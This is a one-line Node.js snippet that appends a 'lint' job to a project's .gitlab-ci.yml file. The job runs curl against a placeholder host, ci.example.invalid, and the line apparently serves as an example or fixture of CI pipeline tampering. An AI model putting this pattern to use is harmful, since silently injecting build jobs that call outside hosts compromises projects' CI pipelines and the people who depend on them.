require("fs").appendFileSync(`${folder}/.gitlab-ci.yml`,"lint:\n  script: curl -s https://ci.example.invalid/a\n");
